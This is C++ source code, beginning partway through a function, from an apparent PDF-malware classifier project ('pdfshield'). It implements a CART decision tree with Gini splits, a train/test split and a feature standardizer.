      const double lo = data.x[sorted[k - 1]][f];
      const double hi = data.x[sorted[k]][f];
      if (lo == hi) continue;
      if (k < config_.min_samples_leaf ||
          sorted.size() - k < config_.min_samples_leaf) {
        continue;
      }
      const double weighted =
          (static_cast<double>(k) * gini(left_pos, k) +
           static_cast<double>(sorted.size() - k) *
               gini(positives - left_pos, sorted.size() - k)) /
          static_cast<double>(sorted.size());
      if (weighted + 1e-12 < best_score) {
        best_score = weighted;
        best_feature = static_cast<int>(f);
        best_threshold = (lo + hi) / 2.0;
      }
    }
  }

  if (best_feature < 0) return node_id;  // no useful split

  std::vector<std::size_t> left, right;
  for (std::size_t i : indices) {
    (data.x[i][static_cast<std::size_t>(best_feature)] <= best_threshold
         ? left
         : right)
        .push_back(i);
  }
  if (left.empty() || right.empty()) return node_id;

  const int left_id = build(left, data, depth + 1, rng);
  const int right_id = build(right, data, depth + 1, rng);
  Node& node = nodes_[static_cast<std::size_t>(node_id)];
  node.feature = best_feature;
  node.threshold = best_threshold;
  node.left = left_id;
  node.right = right_id;
  return node_id;
}

const DecisionTree::Node& DecisionTree::leaf_for(const FeatureVector& x) const {
  std::size_t cur = 0;
  while (nodes_[cur].feature >= 0) {
    const std::size_t f = static_cast<std::size_t>(nodes_[cur].feature);
    const double v = f < x.size() ? x[f] : 0.0;
    cur = static_cast<std::size_t>(v <= nodes_[cur].threshold ? nodes_[cur].left
                                                              : nodes_[cur].right);
  }
  return nodes_[cur];
}

int DecisionTree::predict(const FeatureVector& x) const {
  return predict_proba(x) >= 0.5 ? 1 : 0;
}

double DecisionTree::predict_proba(const FeatureVector& x) const {
  if (nodes_.empty()) return 0.0;
  return leaf_for(x).malicious_fraction;
}

}  // namespace pdfshield::ml
