#include "ml/dataset.hpp"

#include <cmath>
#include <numeric>

namespace pdfshield::ml {

Split train_test_split(const Dataset& data, double train_fraction,
                       support::Rng& rng) {
  std::vector<std::size_t> order(data.size());
  std::iota(order.begin(), order.end(), 0);
  rng.shuffle(order);
  const std::size_t train_n =
      static_cast<std::size_t>(train_fraction * static_cast<double>(data.size()));
  Split split;
  for (std::size_t i = 0; i < order.size(); ++i) {
    Dataset& dst = i < train_n ? split.train : split.test;
    dst.add(data.x[order[i]], data.y[order[i]]);
  }
  return split;
}

void Standardizer::fit(const Dataset& data) {
  const std::size_t d = data.feature_count();
  mean_.assign(d, 0.0);
  stddev_.assign(d, 1.0);
  if (data.size() == 0) return;
  for (const auto& row : data.x) {
    for (std::size_t j = 0; j < d; ++j) mean_[j] += row[j];
  }
  for (double& m : mean_) m /= static_cast<double>(data.size());
  std::vector<double> var(d, 0.0);
  for (const auto& row : data.x) {
    for (std::size_t j = 0; j < d; ++j) {
      const double delta = row[j] - mean_[j];
      var[j] += delta * delta;
    }
  }
  for (std::size_t j = 0; j < d; ++j) {
    stddev_[j] = std::sqrt(var[j] / static_cast<double>(data.size()));
    if (stddev_[j] < 1e-9) stddev_[j] = 1.0;  // constant feature
  }
}

FeatureVector Standardizer::transform(const FeatureVector& x) const {
  FeatureVector out(x.size());
  for (std::size_t j = 0; j < x.size(); ++j) {
    out[j] = (x[j] - (j < mean_.size() ? mean_[j] : 0.0)) /
             (j < stddev_.size() ? stddev_[j] : 1.0);
  }
  return out;
}

Dataset Standardizer::transform(const Dataset& data) const {
  Dataset out;
  for (std::size_t i = 0; i < data.size(); ++i) {
    out.add(transform(data.x[i]), data.y[i]);
  }
  return out;
}

}  // namespace pdfshield::ml
