// CART decision tree (Gini impurity, axis-aligned threshold splits), the
// other classifier family of the structural baseline [5] and the base
// learner for the PDFRate-style random forest [4].
#pragma once

#include <memory>

#include "ml/dataset.hpp"

namespace pdfshield::ml {

class DecisionTree {
 public:
  struct Config {
    int max_depth = 12;
    std::size_t min_samples_leaf = 2;
    /// Features sampled per split; 0 = all (set by the forest).
    std::size_t feature_subsample = 0;
  };

  DecisionTree();
  explicit DecisionTree(Config config);

  void train(const Dataset& data, support::Rng& rng);
  int predict(const FeatureVector& x) const;
  /// Fraction of malicious training samples at the reached leaf.
  double predict_proba(const FeatureVector& x) const;

  std::size_t node_count() const { return nodes_.size(); }

 private:
  struct Node {
    int feature = -1;       ///< -1 for leaves
    double threshold = 0.0;
    int left = -1, right = -1;
    double malicious_fraction = 0.0;
  };

  int build(const std::vector<std::size_t>& indices, const Dataset& data,
            int depth, support::Rng& rng);
  const Node& leaf_for(const FeatureVector& x) const;

  Config config_;
  std::vector<Node> nodes_;
};


inline DecisionTree::DecisionTree() : DecisionTree(Config()) {}
inline DecisionTree::DecisionTree(Config config) : config_(config) {}

}  // namespace pdfshield::ml
